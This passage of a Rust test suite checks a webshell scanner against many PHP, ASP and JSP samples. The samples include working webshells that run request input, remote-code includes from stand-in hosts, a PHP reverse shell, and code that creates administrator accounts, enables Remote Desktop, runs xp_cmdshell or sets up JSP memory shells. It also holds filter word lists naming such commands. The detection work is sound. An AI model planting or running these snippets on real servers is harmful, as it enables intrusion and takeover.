                "<?php class Cmd { public static function run(string $c): string { return (string) shell_exec($c); } }\necho Cmd::run($_GET['c']);",
                "scan.heuristic.wrapped_sink",
            ),
            (
                "<?php $cfg = ['h' => $_POST['h'] ?? '', 'a' => $_POST['a'] ?? ''];\nextract($cfg);\nif ($h) { echo $h($a); }",
                "scan.heuristic.request_function",
            ),
            (
                "<?php $c = $_POST['cmd'] ?? 'id';\n$p = proc_open('/bin/bash -c ' . escapeshellarg($c), [1 => ['pipe', 'w']], $pipes);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $k = 'x7'; $p = $_POST[$k];\n$d = '';\nforeach (str_split(base64_decode($p)) as $i => $ch) { $d .= chr(ord($ch) ^ ord($k[$i % 2])); }\neval($d);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php\n$x = file_get_contents('http://update.example.net/x.txt');\neval('?>' . $x);",
                "scan.heuristic.remote_code",
            ),
            (
                "<?php\n$remote = 'ht' . 'tp://198.51.100.7/s.txt';\ninclude $remote;",
                "scan.heuristic.remote_code",
            ),
            (
                "<?php if (isset($_GET['c'])) $c = $_GET['c'];\nelse $c = 'id';\nsystem($c);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $t = $_POST['t'];\n$code = '';\nfor ($i = 0; $i < strlen($t); $i += 2) $code .= chr(hexdec(substr($t, $i, 2)));\neval($code);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $r = array_map('trim', explode(',', $_POST['s']));\nforeach ($r as $c) { echo `$c`; }",
                "scan.heuristic.backticks",
            ),
            (
                "<?php @mail('', '', '', '', '-OQueueDirectory=/tmp -X/var/www/html/' . $_GET['n'] . '.php');",
                "scan.heuristic.mail_file_write",
            ),
            (
                "<?php\n$u = 'http://198.51.100.7/p.txt';\n$code = @file_get_contents($u);\n$fn = create_function('', $code);\n$fn();",
                "scan.heuristic.remote_code",
            ),
        ];
        for (page, check) in flagged {
            assert_eq!(ids(ScriptKind::Php, page), [check], "{page}");
        }
        let quiet = [
            // A nowdoc does not expand variables; escaped text added; a heredoc of no input.
            "<?php $q = $_GET['q'];\n$c = <<<'EOT'\nls $q\nEOT;\nsystem($c);",
            "<?php $q = $_GET['q'];\n$o = 'grep ';\n$o .= escapeshellarg($q);\nexec($o);",
            "<?php $q = $_GET['q'];\n$c = <<<EOT\nuptime\nEOT;\nsystem($c);",
            // A constructor fed a constant; the page's object built from input never runs it.
            "<?php class R { function __construct($l) { $this->l = $l; }\nfunction go() { passthru($this->l); } }\n$r = new R('uptime'); $x = new Q($_GET['l']);",
            // A backtick in a doc comment; a callback handed its name with no input.
            "<?php /** Runs `$c`. */\nfunction r($c) { return strlen($c); }\necho r($_GET['c']);",
            "<?php function h($m) { return `$m`; }\n$q = $_GET['q'];\necho preg_replace_callback('/x/', 'h', 'fixed');",
            // A fixed command after matching the input; the input shown, escaped.
            "<?php preg_match('/^\\d+$/', $_GET['id'], $m);\nsystem('uptime');",
            "<?php $x = $_GET['x'];\n$y = \"<b>{$x}</b>\";\necho htmlspecialchars($y);",
            // A callback picked from the page's own table by the request's key.
            "<?php $k = explode(',', $_GET['q']);\n$f = $handlers[array_shift($k)];\ncall_user_func($f, $k);",
            // A fixed command set in a control statement's body.
            "<?php if ($ok) $c = 'uptime';\nforeach ($_GET as $k) echo htmlspecialchars($k);\nsystem($c);",
            // Each id made a number before it reaches the command.
            "<?php $ids = array_map('intval', explode(',', $_GET['ids']));\nforeach ($ids as $i) { exec('kill ' . $i); }",
            // A getter's value shown; a getter of the page's own settings run.
            "<?php function get($k) { return $_GET[$k] ?? ''; }\necho htmlspecialchars(get('q'));",
            "<?php function opt($k) { return $GLOBALS['conf'][$k]; }\nsystem(opt('backup_cmd'));",
            // The form written to sendmail's input; a fixed script written to a shell.
            "<?php $m = popen('/usr/sbin/sendmail -t -i', 'w');\nfputs($m, \"To: a@example.org\\n\\n\" . $_POST['body']);",
            "<?php $sh = popen('/bin/sh', 'w');\nfwrite($sh, \"cd /var/cache/app && find . -mtime +7 -delete\\n\");\n$n = $_GET['n'];",
            // An array literal of fixed values, extracted.
            "<?php $cfg = ['h' => 'strtoupper', 'a' => 'x'];\nextract($cfg);\necho $h($a);",
            // Escaped input as one argument of a program, not a shell's command line.
            "<?php $f = $_GET['f'];\nexec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');",
            // A fetched page tested, shown or included from the application's own files.
            "<?php $page = file_get_contents('https://api.example.org/v1');\nassert($page !== false);\necho htmlspecialchars($page);",
            // A sender set with `-f`, and a mailer's method named mail().
            "<?php mail($to, $subject, $body, $headers, '-f' . $from);",
            "<?php $mailer->mail($to, $s, $b, $h, '-X /tmp/x.log');",
            "<?php $page = file_get_contents('https://api.example.org/v1');\n$cmp = create_function('$a,$b', 'return strcmp($a, $b);');\necho $page;",
            "<?php include 'lib/http.php'; $u = 'https://example.org/'; echo file_get_contents($u);",
        ];
        for page in quiet {
            let found = ids(ScriptKind::Php, page);
            assert!(found.is_empty(), "{page}: {found:?}");
        }
    }

    #[test]
    fn administrator_accounts_and_remote_desktop() {
        let adsi = "<%\nSet nt = GetObject(\"WinNT://\" & Request.ServerVariables(\"SERVER_NAME\"))\nSet u = nt.Create(\"user\", Request(\"u\"))\nu.SetPassword Request(\"p\")\nu.SetInfo\nSet g = GetObject(\"WinNT://./Administrators,group\")\ng.Add u.ADsPath\n%>";
        let net = "<?php if ($_POST['go']) { system('net user support P@ss1 /add'); system('net localgroup administrators support /add'); }";
        let servu = "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"POST\", \"http://127.0.0.1:43958/\", False\nx.Send \"USER LocalAdministrator\" & vbCrLf & \"SITE MAINTENANCE\" & vbCrLf & \"-SETUSERSETUP\" & vbCrLf & \"-Maintenance=System\"\n%>";
        // MSXML transforms with a stylesheet from the request, directly or through a variable.
        let xsl = "<%\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\nd.loadXML \"<r/>\"\ns.loadXML Request.Form(\"x\")\nResponse.Write d.transformNode(s)\n%>";
        let xsl_var = "<%\nx = Request(\"x\")\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\ns.loadXML(x)\nResponse.Write d.transformNode(s)\n%>";
        let rdp = "<%@ Page Language=\"C#\" %><% Microsoft.Win32.Registry.LocalMachine.OpenSubKey(@\"SYSTEM\\CurrentControlSet\\Control\\Terminal Server\", true).SetValue(\"fDenyTSConnections\", 0); %>";
        for (kind, page, check) in [
            (ScriptKind::Asp, adsi, "scan.heuristic.windows_account"),
            (ScriptKind::Php, net, "scan.heuristic.windows_account"),
            (ScriptKind::Asp, rdp, "scan.heuristic.rdp_enable"),
            (ScriptKind::Asp, servu, "scan.heuristic.servu_escalation"),
            (ScriptKind::Asp, xsl, "scan.heuristic.asp_xslt_exec"),
            (ScriptKind::Asp, xsl_var, "scan.heuristic.asp_xslt_exec"),
        ] {
            assert!(
                ids(kind, page).contains(&check),
                "{page}: {:?}",
                ids(kind, page)
            );
        }
        // A server probe that lists accounts, an injection filter's word list, and the
        // Remote Desktop setting only read.
        let quiet = [
            "<% for each obj in getObject(\"WinNT://.\") : Response.Write obj.Name : next %>",
            "<% bad = \"xp_cmdshell|net user|net localgroup administrators|exec\" %>",
            "<% Set s = CreateObject(\"WScript.Shell\") : Response.Write s.RegRead(\"HKLM\\...\\fDenyTSConnections\") %>",
            // Posted XML shown with the site's own stylesheet; an FTP client's own commands.
            "<%\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\nd.loadXML Request.Form(\"x\")\ns.load Server.MapPath(\"view.xsl\")\nResponse.Write d.transformNode(s)\n%>",
            "<% ftp.Send \"SITE CHMOD 644 \" & Request(\"f\") %>",
        ];
        for page in quiet {
            assert!(
                ids(ScriptKind::Asp, page).is_empty(),
                "{page}: {:?}",
                ids(ScriptKind::Asp, page)
            );
        }
        // Assembly.Load of bytes from a header, not of a name.
        let header = "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) { string c = Request.Headers[\"X-T\"]; System.Reflection.Assembly.Load(Convert.FromBase64String(c)).EntryPoint.Invoke(null, null); }</script>";
        assert_eq!(
            ids(ScriptKind::Asp, header),
            ["scan.heuristic.asp_assembly"]
        );
        let named = "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) { var a = System.Reflection.Assembly.Load(\"App.Plugins\"); Label1.Text = Request.QueryString[\"q\"]; }</script>";
        assert!(
            ids(ScriptKind::Asp, named).is_empty(),
            "{:?}",
            ids(ScriptKind::Asp, named)
        );
    }

    #[test]
    fn statements_keep_braces_inside_strings() {
        let t = "$y = \"{$x} {$z}\";\nif($a){$b=1;}\n$s = '{';";
        let parts: Vec<&str> = php_statements(t).collect();
        assert_eq!(
            parts,
            [
                "$y = \"{$x} {$z}\";",
                "\n",
                "if($a){",
                "$b=1;",
                "}",
                "\n",
                "$s = '{",
                "';"
            ]
        );
        assert_eq!(parts.concat(), t);
    }

    #[test]
    fn top_level_joins_and_branches() {
        let parts: Vec<&str> =
            concatenated("'a' . 1.5 . $b1.f('x.y', $c . $d) . \"$e.\"; $z . 1").collect();
        assert_eq!(
            parts,
            ["'a' ", " 1.5 ", " $b1", "f('x.y', $c . $d) ", " \"$e.\""]
        );
        assert_eq!(
            ternary_branches("isset($q['c']) ? $q['c'] : A::B;"),
            Some((" $q['c'] ", " A::B;"))
        );
        for none in [
            "$a ?? 'x';",
            "$o?->name;",
            "$a ?: 'x';",
            "f($a ? 1 : 2);",
            "$a;",
        ] {
            assert_eq!(ternary_branches(none), None, "{none}");
        }
    }

    #[test]
    fn comments_outside_strings() {
        let t = "a /* one */ b '/* no */' // x /* no\nc \"it's /*\" # '/* no\n#[attr] /* two";
        let spans = crate::php_tricks::comment_spans(t, usize::MAX);
        let texts: Vec<&str> = spans.iter().map(|&(s, e)| &t[s..e]).collect();
        // The two block comments, the line comments around the quoted `/*`s, and no string.
        assert_eq!(texts, ["/* one */", "// x /* no", "# '/* no", "/* two"]);
        assert!(in_comment(&spans, t.find("one").unwrap()));
        assert!(!in_comment(&spans, t.find(" b").unwrap()));
        assert!(!in_comment(&spans, t.find("[attr]").unwrap()));
        assert!(in_comment(&spans, t.len() - 1));
    }

    #[test]
    fn php_reverse_shell_and_mailers() {
        let shell = r#"<?php $sock = fsockopen($ip, $port); $shell = 'uname -a; /bin/sh -i';
$process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "w")), $pipes);"#;
        assert!(ids(ScriptKind::Php, shell).contains(&"scan.heuristic.php_reverse_shell"));
        // A mailer opens an SMTP socket or pipes to sendmail, and names no shell.
        let mailer =
            r#"<?php $smtp = fsockopen($host, 25); $mail = popen("/usr/sbin/sendmail -t", "w");"#;
        assert!(!ids(ScriptKind::Php, mailer).contains(&"scan.heuristic.php_reverse_shell"));
    }

    #[test]
    fn jsp_techniques_without_a_runtime_call() {
        let jshell = r#"<%=jdk.jshell.JShell.builder().build().eval(request.getParameter("c")).get(0).value()%>"#;
        assert!(ids(ScriptKind::Jsp, jshell).contains(&"scan.heuristic.jsp_script_engine"));
        let internal = r#"<% Class c = Class.forName("java.lang.ProcessImpl"); Method m = c.getDeclaredMethod("start"); %>"#;
        assert!(ids(ScriptKind::Jsp, internal).contains(&"scan.heuristic.jsp_internal_process"));
        let filter = "<% StandardContext ctx = (StandardContext) req.getContext(); ctx.addFilterDef(def); ctx.addFilterMapBefore(map); %>";
        assert_eq!(
            ids(ScriptKind::Jsp, filter),
            ["scan.heuristic.jsp_memory_shell"]
        );
        let endpoint = "<% ServerContainer sc = (ServerContainer) application.getAttribute(\"javax.websocket.server.ServerContainer\"); sc.addEndpoint(cfg); %>";
        assert_eq!(
            ids(ScriptKind::Jsp, endpoint),
            ["scan.heuristic.jsp_memory_shell"]
        );
        let valve = "<% StandardContext c = (StandardContext) r.getContext(); c.getPipeline().addValve(new ValveBase() { }); %>";
        assert_eq!(
            ids(ScriptKind::Jsp, valve),
            ["scan.heuristic.jsp_memory_shell"]
        );
        let controller = "<% RequestMappingHandlerMapping m = ctx.getBean(RequestMappingHandlerMapping.class); m.registerMapping(info, bean, method); %>";
        assert_eq!(
            ids(ScriptKind::Jsp, controller),
            ["scan.heuristic.jsp_memory_shell"]
        );
        // An application's own WebSocket endpoint class and a page that only reads its context.
        let benign = "<% ServletContext ctx = request.getServletContext(); out.print(ctx.getServerInfo()); %>";
        assert!(ids(ScriptKind::Jsp, benign).is_empty());
    }

    #[test]
    fn jsp_code_behind_escapes_and_other_loaders() {
        let plain = r#"<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>"#;
        let escaped: String = plain
            .chars()
            .map(|c| {
                if c.is_ascii_alphabetic() {
                    format!("\\u{:04x}", c as u32)
                } else {
                    c.to_string()
                }
            })
            .collect();
        let found = scan_script(ScriptKind::Jsp, escaped.as_bytes());
        assert!(
            found.iter().any(|h| h.check == "scan.heuristic.jsp_exec"),
            "{found:?}"
        );
        assert!(found.iter().any(|h| h.why.contains("decoding")));
        let entities = "<jsp:scriptlet>&#x52;untime.getRuntime().exec(request.getParameter(\"c\"));&#59;&#59;&#59;&#59;&#59;&#59;&#59;</jsp:scriptlet>";
        assert!(ids(ScriptKind::Jsp, entities).contains(&"scan.heuristic.jsp_exec"));
        // One reference is enough in a JSP document, named ones included; one `\u` escape of
        // a letter is enough anywhere.
        let one = "<jsp:root><jsp:scriptlet>String c = request.getParameter(&quot;c&quot;); java.lang.&#x52;untime.getRuntime().ex&#101;c(c);</jsp:scriptlet></jsp:root>";
        assert!(ids(ScriptKind::Jsp, one).contains(&"scan.heuristic.jsp_exec"));
        let letter =
            r#"<% String c = request.getParameter("c"); \u0052untime.getRuntime().exec(c); %>"#;
        assert!(ids(ScriptKind::Jsp, letter).contains(&"scan.heuristic.jsp_exec"));
        // Text in other scripts, and references in a page that is not a JSP document, are
        // not decoded: the container leaves `&#82;` in a `<% %>` block as it is.
        let text = r#"<% String t = "\u4e2d\u6587"; String c = request.getParameter("c"); %><p>&#82;untime.getRuntime().ex&#101;c(c)</p>"#;
        assert!(
            ids(ScriptKind::Jsp, text).is_empty(),
            "{:?}",
            ids(ScriptKind::Jsp, text)
        );
        let remote = r#"<% out.print(new URLClassLoader(new URL[]{new URL("http://x.test/a.jar")}).loadClass("A").newInstance()); %>"#;
        assert_eq!(
            ids(ScriptKind::Jsp, remote),
            ["scan.heuristic.jsp_remote_class"]
        );
        let xml = r#"<% XMLDecoder d = new XMLDecoder(new ByteArrayInputStream(request.getParameter("p").getBytes())); d.readObject(); %>"#;
        assert_eq!(
            ids(ScriptKind::Jsp, xml),
            ["scan.heuristic.jsp_deserialize"]
        );
        let body = r#"<% java.io.ObjectInputStream ois = new java.io.ObjectInputStream(request.getInputStream()); Object o = ois.readObject(); %>"#;
        assert_eq!(
            ids(ScriptKind::Jsp, body),
            ["scan.heuristic.jsp_deserialize"]
        );
        let jndi = r#"<% System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase","true"); JdbcRowSetImpl r = new JdbcRowSetImpl(); r.setDataSourceName(request.getParameter("c")); r.setAutoCommit(true); %>"#;
        assert_eq!(ids(ScriptKind::Jsp, jndi), ["scan.heuristic.jsp_jndi"]);
        // A data source looked up by a fixed name, and i18n text in escapes, stay quiet.
        let benign = r#"<% DataSource ds = (DataSource) new InitialContext().lookup("java:comp/env/jdbc/app"); String t = "\u4f60\u597d\u4e16\u754c\u4f60\u597d\u4e16\u754c"; out.print(request.getParameter("q") == null ? t : ""); %>"#;
        assert!(
            ids(ScriptKind::Jsp, benign).is_empty(),
            "{:?}",
            ids(ScriptKind::Jsp, benign)
        );
    }

    #[test]
    fn asp_xslt_script_shell() {
        let page = r#"<% xslt="<msxsl:script language=""JScript"" implements-prefix=""z""> function x(c){var a=new ActiveXObject('wscript.shell'); return a.Exec(c).StdOut.ReadAll();}</msxsl:script>" %>"#;
        assert_eq!(ids(ScriptKind::Asp, page), ["scan.heuristic.asp_xslt_exec"]);
        let benign = r#"<msxsl:script language="C#" implements-prefix="u">public string up(string s){return s.ToUpper();}</msxsl:script>"#;
        assert!(ids(ScriptKind::Asp, benign).is_empty());
    }

    #[test]
    fn jsp_expressions_and_method_handles() {
        assert_eq!(
            ids(
                ScriptKind::Jsp,
                "<%@ page %>${Runtime.getRuntime().exec(param.cmd)}"
            ),
            ["scan.heuristic.jsp_exec"]
        );
        let handle = "<%@ page import=\"java.lang.invoke.*\" %><% MethodHandle h = MethodHandles.lookup().findVirtual(Runtime.class, \"exec\", MethodType.methodType(Process.class, String.class)); h.invoke(Runtime.getRuntime(), request.getParameter(\"c\")); %>";
        assert!(ids(ScriptKind::Jsp, handle).contains(&"scan.heuristic.jsp_hidden_process"));
        // Expressions that read beans and parameters, and an unclosed one.
        let quiet = "<%@ page %>${param.name} ${sessionScope.user.name} #{bean.value} ${";
        assert!(ids(ScriptKind::Jsp, quiet).is_empty());
    }

    #[test]
    fn sql_that_reaches_the_operating_system() {
        for page in [
            "<% conn.execute(\"exec master..xp_cmdshell '\" & request(\"c\") & \"'\") %>",
            "<?php $q = \"EXEC xp_cmdshell '\" . $_POST['c'] . \"'\"; mssql_query($q);",
            "<% sql = \"declare @s int; exec sp_oacreate 'wscript.shell', @s out\" %>",
            "<% conn.Execute \"EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE\" %>",
        ] {
            let kind = if page.starts_with("<?php") {
                ScriptKind::Php
            } else {
                ScriptKind::Asp
            };
            assert!(
                ids(kind, page).contains(&"scan.heuristic.database_command"),
                "{page}"
            );
        }
        // An injection filter that lists the word among others to reject.
        let filter = "<% bad = \"select |insert |xp_cmdshell|exec master|net user\" %>";
        assert!(ids(ScriptKind::Asp, filter).is_empty());
        // A setting read back, not switched on.
        let shown =
            "<% conn.Execute \"EXEC sp_configure 'max server memory'\" : x = \"xp_cmdshell\" %>";
        assert!(ids(ScriptKind::Asp, shown).is_empty());
    }

    #[test]
    fn reconnaissance_commands() {
        for (kind, page) in [
            (
                ScriptKind::Asp,
                "<%\nSet sh = CreateObject(\"WScript.Shell\")\nResponse.Write sh.Exec(\"netstat -ano\").StdOut.ReadAll\nResponse.Write sh.Exec(\"cmd /c tasklist /svc\").StdOut.ReadAll\n%>",
            ),
            (
                ScriptKind::Php,
                "<?php echo shell_exec('whoami /all'); echo shell_exec(\"ipconfig /all\");",
            ),
        ] {
            assert_eq!(ids(kind, page), ["scan.heuristic.recon_commands"], "{page}");
        }
        // One command (a library's process check), names in a list, and commands shown as
        // text are not a tour of the host.
        for (kind, page) in [
            (
                ScriptKind::Php,
                "<?php exec('tasklist /FI \"PID eq ' . (int) $pid . '\"', $out);",
            ),
            (
                ScriptKind::Php,
                "<?php $tools = ['netstat', 'tasklist', 'ipconfig']; echo implode(', ', $tools);",
            ),
            (
                ScriptKind::Asp,
                "<% Response.Write \"Run netstat -ano, then tasklist /svc, on the server\" %>",
            ),
        ] {
            assert!(ids(kind, page).is_empty(), "{page}: {:?}", ids(kind, page));
        }
    }

    #[test]
    fn one_long_statement_of_many_variables() {
        // Quotes before each variable were counted from the statement's start for each one:
        // minutes for a few MB of this. Read once, it is a fraction of a second.
        let page = format!(
            "<?php $a=$_GET[1];{}$a($x);",
            "array_map(function($x".repeat(100_000)
        );
        assert_eq!(
            ids(ScriptKind::Php, &page),
            ["scan.heuristic.request_function"]
        );
    }

    #[test]
    fn request_arrays_under_other_names() {
        for page in [
            "<?php ${\"_GET\"}['f'](${\"_GET\"}['a']);",
            "<?php $GLOBALS['_POST']['a']($GLOBALS['_POST']['b']);",
        ] {
            assert_eq!(
                ids(ScriptKind::Php, page),
                ["scan.heuristic.request_function"],
                "{page}"
            );
        }
        // PHP 4's arrays, CGI's header variables, filtered input.
        for page in [
            "<?php system($HTTP_POST_VARS['c']);",
            "<?php $c = getenv('HTTP_X_CMD'); passthru($c);",
            "<?php eval(filter_input(INPUT_GET, 'c'));",
            // One element, or all, of a request array taken into a variable.
            "<?php $a = array_values($_POST);\neval($a[0]);",
            "<?php $c = end($_GET);\nsystem($c);",
            // Parked in the session, run from there.
            "<?php session_start();\nif (isset($_POST['s'])) { $_SESSION['p'] = $_POST['s']; }\neval($_SESSION['p']);",
        ] {
            assert_eq!(
                ids(ScriptKind::Php, page),
                ["scan.heuristic.input_to_exec"],
                "{page}"
            );
        }
        assert!(
            ids(
                ScriptKind::Php,
                "<?php $p = getenv('PATH'); system('uptime');"
            )
            .is_empty()
        );
        // The last of the page's own list, run.
        assert!(
            ids(
                ScriptKind::Php,
                "<?php $q = $_GET['q']; $c = end($commands); system($c);"
            )
            .is_empty()
        );
        // A session value from the application, run: not the request's.
        assert!(
            ids(
                ScriptKind::Php,
                "<?php $_SESSION['cmd'] = 'uptime'; $u = $_POST['u']; system($_SESSION['cmd']);"
            )
            .is_empty()
        );
        // The rewrite keeps offsets, so the hit is on the line of the call.
        let page = "<?php\n\n${'_GET'}['f']($_GET['a']);\n\n";
        let hits = scan_script(ScriptKind::Php, page.as_bytes());
        let at = hits[0].offset.unwrap();
        assert_eq!(page[..at].matches('\n').count(), 2);
        // A global of the application, and a name that only starts like one of the arrays.
        for quiet in [
            "<?php $GLOBALS['config']['cb']($x);",
            "<?php ${'_getter'}($x); $GLOBALS['_post_id'] = 1;",
        ] {
            assert!(ids(ScriptKind::Php, quiet).is_empty(), "{quiet}");
        }
        let mut t = "${'_get'}".repeat(100_000);
        t.push_str("$globals[\"_post\"");
        unalias_superglobals(&mut t);
        assert!(t.starts_with("    $_get    $_get"));
    }

    #[test]
    fn classic_webshells_are_recognised() {
        assert_eq!(
            ids(ScriptKind::Php, "<?php @eval($_POST['pass']); ?>"),
            ["scan.heuristic.input_to_exec"]
        );
        assert_eq!(
            ids(ScriptKind::Php, "<?php system($_GET[\"c\"]); ?>"),
            ["scan.heuristic.input_to_exec"]
        );
        assert_eq!(
            ids(ScriptKind::Php, "<?php $_GET['f']($_GET['a']); ?>"),
            ["scan.heuristic.request_function"]
        );
        assert_eq!(
            ids(
                ScriptKind::Php,
                "<?php $a=$_REQUEST[\"cmd\"]; if(isset($a)){ system($a); } ?>"
            ),
            ["scan.heuristic.input_to_exec"]
        );
        assert_eq!(
            ids(ScriptKind::Php, "<?php echo `$_GET[c]`; ?>"),
            ["scan.heuristic.input_to_exec"].map(|_| "scan.heuristic.backticks")
        );
        assert_eq!(
            ids(ScriptKind::Php, "<?php echo `$cmd`. `$_GET[username]`; ?>"),
            ["scan.heuristic.backticks"]
        );
        // A copy of a request array, and an element of the copy.
        assert_eq!(
            ids(
                ScriptKind::Php,
                "<?php $k = $_COOKIE; if (isset($k['a'])) { $c = $k['a']; @system($c); }"
            ),
            ["scan.heuristic.input_to_exec"]
        );
        assert!(
            ids(
                ScriptKind::Php,
                "<?php $k = $_GET['id']; $row = $rows[$k]; $n = strlen($k); system($row);"
            )
            .is_empty()
        );
        // Braces around the input end a statement for the walk, not the backticks.
        assert_eq!(
            ids(ScriptKind::Php, "<?php echo `{$_GET['c']}`;"),
            ["scan.heuristic.backticks"]
        );
        assert!(ids(ScriptKind::Php, "<?php $q = $_GET['q']; // `a` . `b $_x`\n").is_empty());
        // Backticks around request input in a comment line are not run.
        assert!(ids(ScriptKind::Php, "<?php\n// echo `$_GET[x]`;\n").is_empty());
        assert_eq!(
            ids(
                ScriptKind::Php,
                "<?php eval(gzinflate(base64_decode('abc'))); ?>"
            ),
            ["scan.heuristic.eval_decoded"]
        );
        assert_eq!(
            ids(ScriptKind::Php, "<?php $f = 'as'.'se'.'rt'; $f($x); ?>"),
            ["scan.heuristic.assembled_name"]
        );
        assert_eq!(
            ids(
                ScriptKind::Php,
                "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); ?>"
            ),
            ["scan.heuristic.assembled_name"]
        );
        assert_eq!(
            ids(
                ScriptKind::Php,
                "<?php $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; ?>"
            ),
            ["scan.heuristic.assembled_name"]
        );
        assert_eq!(
            ids(
                ScriptKind::Jsp,
                "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"
            ),
            ["scan.heuristic.jsp_exec"]
        );
        assert_eq!(
            ids(
                ScriptKind::Asp,
                "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>"
            ),
            ["scan.heuristic.asp_eval"]
        );
        let blob = format!(
            "<?php $x='{}'; eval(base64_decode($x));",
            "QUJD".repeat(800)
        );
        assert!(ids(ScriptKind::Php, &blob).contains(&"scan.heuristic.encoded_payload"));
    }

    #[test]
    fn ordinary_code_is_quiet() {
        for s in [
            "<?php echo htmlspecialchars($_GET['q']); ?>",
            "<?php $id = (int)$_GET['id']; $db->query('SELECT 1'); ?>",
            "<?php require __DIR__.'/wp-load.php'; ?>",
            "<?php $stmt->exec($_POST['x']); ?>",
            "<?php function doeval($_GET) {} ?>",
            "<?php $img = 'data:image/png;base64,iVBORw0KGgo'; ?>",
            "<?php exec('ls ' . escapeshellarg($_GET['d'])); ?>",
            "<?php $page = $_GET['p']; $db->exec($page); echo system_status(); ?>",
            "<?php $i[]=(preg_match('~^(`(?:[^`]|``)+`)$~',$x)?$x:f($x)).(isset($_GET[\"desc\"])?\" desc\":\"\"); ?>",
            "<?php $s = 'sys'.'tem_info'; ?>",
            "/**\n * Add magic quotes to `$_GET`, `$_POST`, `$_COOKIE`, and `$_SERVER`.\n */",
        ] {
            assert!(ids(ScriptKind::Php, s).is_empty(), "{s}");
        }
        // A long blob right after multi-byte text: the look-behind must not split a character.
        let _ = ids(
            ScriptKind::Php,
            &format!(
                "<?php $a='{} {}'; eval($a);",
                "é".repeat(30),
                "A".repeat(3000)
            ),
        );
        let img = format!(
            "<?php $logo = 'data:image/png;base64,{}'; echo base64_decode($logo);",
            "QUJD".repeat(800)
        );
        assert!(ids(ScriptKind::Php, &img).is_empty());
    }

    #[test]
    fn jsp_runtime_in_a_variable_and_bean_calls() {
        let held = "<% Runtime runtime = Runtime.getRuntime(); Process proc = runtime.exec(\"cmd\"); String c = request.getParameter(\"cmd\"); %>";
        assert_eq!(ids(ScriptKind::Jsp, held), ["scan.heuristic.jsp_exec"]);
        let bean = "<% String cmd = request.getParameter(\"p\");\nStatement stmt = new Statement(Runtime.getRuntime(), \"e\"+\"x\"+\"e\"+\"c\", new Object[]{cmd});\nstmt.execute(); %>";
        assert_eq!(ids(ScriptKind::Jsp, bean), ["scan.heuristic.jsp_exec"]);
        let quiet = "<% Runtime rt = Runtime.getRuntime(); long m = rt.freeMemory(); String q = request.getParameter(\"q\"); %><script>re.exec(s)</script>";
        assert!(ids(ScriptKind::Jsp, quiet).is_empty());
    }

    #[test]
    fn jsp_table_dumps() {
        let dump = "<% Connection c = DriverManager.getConnection(url, username, password);\nResultSet rs = c.getMetaData().getTables(null, null, \"%\", null);\nwhile (rs.next()) { String table = rs.getString(3);\nResultSet r = st.executeQuery(\"SELECT * FROM \" + table); } %>";
        assert_eq!(
            ids(ScriptKind::Jsp, dump),
            ["scan.heuristic.jsp_table_dump"]
        );
        let app = "<% Connection c = ds.getConnection(); ResultSet r = st.executeQuery(\"SELECT * FROM orders WHERE id = ?\"); %>";
        assert!(ids(ScriptKind::Jsp, app).is_empty());
        let admin = "<% Connection c = ds.getConnection(); String q = \"select table_name from user_tables\"; %>";
        assert!(ids(ScriptKind::Jsp, admin).is_empty());
    }

    #[test]
    fn script_kind_uses_names_then_content() {
        assert_eq!(script_kind("a.PHP", b""), Some(ScriptKind::Php));
        assert_eq!(
            script_kind("shell.jpg", b"GIF89a<?php eval($_POST[1]);"),
            Some(ScriptKind::Php)
        );
        assert_eq!(script_kind("x.aspx", b""), Some(ScriptKind::Asp));
        // Razor pages hold no `<%`: their name says what they are.
        assert_eq!(
            script_kind("Index.cshtml", b"@{ var c = Request[\"c\"]; }"),
            Some(ScriptKind::Asp)
        );
        assert_eq!(script_kind("readme.txt", b"hello"), None);
        assert_eq!(
            script_kind("404.html", b"<html>...</html><?php @eval($_POST[1]); ?>"),
            Some(ScriptKind::Php)
        );
        assert_eq!(
            script_kind("a.txt", b"<%@ page import=\"java.io.*\" %>"),
            Some(ScriptKind::Jsp)
        );
        assert_eq!(
            script_kind("a.txt", b"<%@ Page Language=\"C#\" %>"),
            Some(ScriptKind::Asp)
        );
        assert_eq!(script_kind("t.tpl", b"<% if x %>template<% end %>"), None);
        // VBScript in a web.config, run once a handler maps `.config` to asp.dll.
        assert_eq!(
            script_kind(
                "web.config",
                b"<configuration/>\n<!-- <% Response.Write CreateObject(\"WScript.Shell\").Exec(Request(\"c\")).StdOut.ReadAll() %> -->"
            ),
            Some(ScriptKind::Asp)
        );
        // Named for one language, holding only another's code.
        assert_eq!(
            script_kind(
                "x.php",
                b"<%@ LANGUAGE = VBScript.Encode %><%#@~^UgsAAA==^#~@%>"
            ),
            Some(ScriptKind::Asp)
        );
        assert_eq!(
            script_kind(
                "x.php",
                b"<%@ page language=\"java\" import=\"java.io.*\" %>"
            ),
            Some(ScriptKind::Jsp)
        );
        assert_eq!(
            script_kind("x.asp", b"<html><?php eval($_POST[1]); ?>"),
            Some(ScriptKind::Php)
        );
        // A PHP page that prints ASP-like markup, and templates, keep their names.
        assert_eq!(
            script_kind("x.php", b"<?php echo '<%@ page %>'; ?>"),
            Some(ScriptKind::Php)
        );
        assert_eq!(
            script_kind("x.php", b"<% if x %>template<% end %>"),
            Some(ScriptKind::Php)
        );
